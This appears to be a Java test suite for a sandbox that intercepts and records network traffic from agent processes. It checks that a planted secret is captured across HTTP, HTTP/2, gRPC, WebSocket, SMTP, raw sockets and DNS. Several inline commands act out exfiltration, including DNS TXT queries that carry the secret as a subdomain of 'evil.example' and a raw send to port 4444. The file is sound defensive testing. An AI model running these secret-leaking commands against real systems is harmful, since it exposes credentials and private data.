package dev.assize.sandbox.capture;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import dev.assize.sandbox.capture.flow.Flow;
import dev.assize.sandbox.capture.flow.Tls;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.concurrent.CompletableFuture;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;

/** What the programs that agents are made of send, by whatever way they choose. */
@Tag("sandbox")
class ClientsTest {

  private static final String SECRET = "kX7mQ2vR9tLw4nZp8sDc";
  private static final String NODE_WEB_SOCKET =
      """
      const c = require('crypto'), t = require('tls');
      const s = t.connect({host: 'chat.example.com', port: 443, servername: 'chat.example.com'});
      s.write('GET /socket HTTP/1.1\\r\\nHost: chat.example.com\\r\\nUpgrade: websocket\\r\\n' +
        'Connection: Upgrade\\r\\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\n' +
        'Sec-WebSocket-Version: 13\\r\\n\\r\\n');
      s.once('data', d => {
        console.log(String(d));
        const p = Buffer.from('%s'), m = Buffer.from([1, 2, 3, 4]);
        const f = Buffer.concat([Buffer.from([0x81, 0x80 | p.length]), m, p.map((b, i) => b ^ m[i & 3])]);
        s.write(f);
        s.write(Buffer.from([0x88, 0x80, 0, 0, 0, 0]));
        s.on('data', () => s.end());
      });
      """
          .formatted(SECRET);
  private static final String NODE_HTTP2 =
      """
      const h = require('http2').connect('https://grpc.example.com');
      const r = h.request({':method': 'POST', ':path': '/pkg.Service/Send',
        'content-type': 'application/grpc', 'te': 'trailers'});
      r.on('trailers', t => console.log('status ' + t['grpc-status']));
      r.on('end', () => h.close());
      r.resume();
      r.end(Buffer.concat([Buffer.from([0, 0, 0, 0, 20]), Buffer.from('%s')]));
      """
          .formatted(SECRET);

  private static Namespaces namespaces;

  @BeforeAll
  static void enter() throws Exception {
    namespaces = new Namespaces();
  }

  @AfterAll
  static void leave() throws Exception {
    namespaces.close();
  }

  @Test
  void nodeTrustsUs() {
    assumeThereIsNode();
    var visit =
        namespaces
            .run(
                "node",
                "-e",
                "fetch('https://api.example.com/x',{method:'POST',body:'"
                    + SECRET
                    + "'}).then(r=>r.text()).then(console.log)")
            .complete();

    assertThat(visit.report().output()).isEqualTo("{}\n");
    assertThat(visit.text(visit.exchange().requestBody())).isEqualTo(SECRET);
  }

  @Test
  void pythonTrustsUs() {
    var visit =
        namespaces
            .run(
                "/usr/bin/python3",
                "-c",
                "import urllib.request as u; print(u.urlopen('https://api.example.com/x',"
                    + " data=b'"
                    + SECRET
                    + "').read())")
            .complete();

    assertThat(visit.report().output()).contains("{}");
    assertThat(visit.text(visit.exchange().requestBody())).isEqualTo(SECRET);
  }

  @Test
  void gitTrustsUs() {
    var visit =
        namespaces.run("git", "ls-remote", "https://git.example.com/" + SECRET + ".git").complete();

    assertThat(visit.flows(Flow.Exchange.class).getFirst().target())
        .isEqualTo("/" + SECRET + ".git/info/refs?service=git-upload-pack");
  }

  @Test
  void javaTrustsUs() throws Exception {
    Path source = namespaces.folder().resolve("Ask.java");
    Files.writeString(
        source,
        """
        import java.net.URI;
        import java.net.http.*;
        public class Ask {
          public static void main(String[] arguments) throws Exception {
            var request = HttpRequest.newBuilder(URI.create("https://api.example.com/x"))
                .POST(HttpRequest.BodyPublishers.ofString(arguments[0])).build();
            var answer = HttpClient.newHttpClient().send(request, HttpResponse.BodyHandlers.ofString());
            System.out.println(answer.version() + " " + answer.body());
          }
        }
        """);
    String java = Path.of(System.getProperty("java.home"), "bin/java").toString();

    var visit = namespaces.run(java, source.toString(), SECRET).complete();

    assertThat(visit.report().output()).isEqualTo("HTTP_2 {}\n");
    assertThat(visit.exchange().protocol()).isEqualTo("h2");
    assertThat(visit.text(visit.exchange().requestBody())).isEqualTo(SECRET);
  }

  @Test
  void proxyVariablesMakeNoDifference() {
    var visit =
        namespaces
            .run("curl", "-sS", "--noproxy", "*", "http://plain.example.com/?q=" + SECRET)
            .complete();

    assertThat(visit.exchange().target()).isEqualTo("/?q=" + SECRET);
  }

  @Test
  void pinnedClientsAreReportedAsNotObserved() {
    var visit =
        namespaces
            .run(
                "curl",
                "-sS",
                "--pinnedpubkey",
                "sha256//AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=",
                "-d",
                SECRET,
                "https://pinned.example.com/")
            .complete();

    Flow.Connection connection = visit.connection();
    assertThat(connection.tls().outcome()).isEqualTo(Tls.Outcome.LEFT_AFTER_HANDSHAKE);
    assertThat(connection.tls().serverName()).isEqualTo("pinned.example.com");
    assertThat(connection.content().observed()).isFalse();
    assertThat(connection.bytesFromAgent()).isPositive();
  }

  @Test
  void clientsWithTheirOwnRootsAreReportedAsNotObserved() throws Exception {
    assumeThereIsNode();
    Path none = namespaces.folder().resolve("other.pem");
    Files.copy(Path.of("/etc/ssl/certs/ca-certificates.crt"), none);

    var curl =
        namespaces
            .run("curl", "-sS", "--cacert", none.toString(), "https://own.example.com/")
            .complete();
    var node =
        namespaces
            .run(
                "env",
                "-i",
                "node",
                "-e",
                "fetch('https://own.example.com/').catch(e=>console.log(e.cause.code))")
            .complete();

    for (var visit : java.util.List.of(curl, node)) {
      Flow.Connection connection = visit.connection();
      assertThat(connection.tls().outcome())
          .as(visit.report().output() + connection)
          .isEqualTo(Tls.Outcome.REFUSED_BY_CLIENT);
      assertThat(connection.tls().serverName()).isEqualTo("own.example.com");
      assertThat(connection.content().observed()).isFalse();
    }
  }

  @Test
  void curlSpeaksHttp2() {
    var visit =
        namespaces
            .run("curl", "-sS", "--http2", "-d", SECRET, "https://two.example.com/a")
            .complete();

    assertThat(visit.connection().tls().chosen()).isEqualTo("h2");
    assertThat(visit.exchange().protocol()).isEqualTo("h2");
    assertThat(visit.exchange().host()).isEqualTo("two.example.com");
    assertThat(visit.text(visit.exchange().requestBody())).isEqualTo(SECRET);
  }

  @Test
  void curlSpeaksHttp2WithoutTls() {
    var visit =
        namespaces
            .run("curl", "-sS", "--http2-prior-knowledge", "-d", SECRET, "http://two.example.com/a")
            .complete();

    assertThat(visit.report().output()).isEqualTo("{}");
    assertThat(visit.text(visit.exchange().requestBody())).isEqualTo(SECRET);
  }

  @Test
  void remoteProcedureCallsAreRecordedAndAnswered() {
    assumeThereIsNode();
    var visit = namespaces.run("node", "-e", NODE_HTTP2).complete();

    assertThat(visit.report().output()).isEqualTo("status 0\n");
    assertThat(visit.exchange().target()).isEqualTo("/pkg.Service/Send");
    assertThat(visit.text(visit.exchange().requestBody())).endsWith(SECRET);
  }

  @Test
  void webSocketsAreUnmasked() {
    assumeThereIsNode();
    var visit = namespaces.run("node", "-e", NODE_WEB_SOCKET).complete();

    assertThat(visit.report().output())
        .contains("101 Switching Protocols", "s3pPLMBiTxaQ9kYGzzhZRbK+xOo=");
    assertThat(visit.exchange().protocol()).isEqualTo("websocket");
    assertThat(visit.text(visit.exchange().requestBody())).isEqualTo(SECRET);
  }

  @Test
  void proxiesAreUs() {
    var visit =
        namespaces
            .run(
                "curl",
                "-sS",
                "--proxytunnel",
                "-x",
                "http://proxy.example.com:3128",
                "-d",
                SECRET,
                "https://behind.example.com/")
            .complete();

    assertThat(visit.flows(Flow.Exchange.class))
        .extracting(Flow.Exchange::method)
        .containsExactly("CONNECT", "POST");
    assertThat(visit.text(visit.flows(Flow.Exchange.class).getLast().requestBody()))
        .isEqualTo(SECRET);
    assertThat(visit.connection().name()).isEqualTo("behind.example.com");
  }

  @Test
  void serversThatSpeakFirstAreGreetedFor() {
    var visit =
        namespaces
            .run(
                "/usr/bin/python3",
                "-c",
                "import smtplib; s=smtplib.SMTP('mail.example.com',25);"
                    + " s.sendmail('a@example.com',['b@example.org'],'Subject: x\\n\\n"
                    + SECRET
                    + "'); s.quit()")
            .complete();

    assertThat(visit.report().status()).as(visit.report().output()).isZero();
    assertThat(visit.connection().protocol()).isEqualTo("smtp");
    assertThat(visit.text(visit.connection().sent())).contains(SECRET);
    assertThat(visit.text(visit.connection().received())).startsWith("220 ");
  }

  @Test
  void namesThatCarrySecretsAreLogged() {
    var visit =
        namespaces
            .run(
                "/usr/bin/python3",
                "-c",
                """
                import socket, struct
                def ask(name, type):
                    q = struct.pack('>6H', 7, 256, 1, 0, 0, 0)
                    q += b''.join(bytes([len(l)]) + l for l in name.split(b'.')) + b'\\0'
                    return q + struct.pack('>2H', type, 1)
                q = ask(b'%s.evil.example', 16)
                s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
                s.settimeout(5)
                s.sendto(q, ('8.8.8.8', 53))
                print(s.recvfrom(512)[1])
                t = socket.create_connection(('9.9.9.9', 53))
                t.sendall(struct.pack('>H', len(q)) + q)
                print(len(t.recv(512)) > 2)
                """
                    .formatted(SECRET))
            .complete();

    assertThat(visit.report().output()).isEqualTo("('8.8.8.8', 53)\nTrue\n");
    assertThat(visit.flows(Flow.Query.class))
        .allSatisfy(query -> assertThat(query.name()).isEqualTo(SECRET + ".evil.example"))
        .extracting(query -> query.transport() + " " + query.type() + " " + query.destination())
        .containsExactly("udp TXT 8.8.8.8:53", "tcp TXT 9.9.9.9:53");
  }

  @Test
  void datagramsOfBothFamiliesAreKept() {
    var visit =
        namespaces
            .run(
                "/usr/bin/python3",
                "-c",
                """
                import socket
                s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
                s.sendto(b'%1$s', ('9.9.9.9', 443))
                s.sendto(b'x' * 5000, ('9.9.9.9', 443))
                s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
                s.sendto(b'%1$s', ('2001:db8::5', 443))
                t = socket.create_connection(('2001:db8::6', 4444))
                t.sendall(b'%1$s')
                """
                    .formatted(SECRET))
            .complete();

    assertThat(visit.flows(Flow.Datagram.class))
        .extracting(datagram -> datagram.destination() + " " + datagram.payload().size())
        .containsExactlyInAnyOrder(
            "9.9.9.9:443 20", "9.9.9.9:443 5000", "[2001:db8:0:0:0:0:0:5]:443 20");
    assertThat(visit.text(visit.connection().sent())).isEqualTo(SECRET);
    assertThat(visit.connection().destination().address()).isEqualTo("2001:db8:0:0:0:0:0:6");
  }

  @Test
  void runsAtTheSameTimeAreToldApart() {
    CompletableFuture<Namespaces.Visit> first =
        namespaces.start(namespaces.errand("curl", "-sS", "-d", "one", "http://a.example/"));
    CompletableFuture<Namespaces.Visit> second =
        namespaces.start(namespaces.errand("curl", "-sS", "-d", "two", "http://b.example/"));

    assertThat(first.join().complete().exchange().host()).isEqualTo("a.example");
    assertThat(second.join().complete().exchange().host()).isEqualTo("b.example");
  }

  private static void assumeThereIsNode() {
    assumeTrue(Files.isExecutable(Path.of("/usr/bin/node")), "there is no /usr/bin/node");
  }
}
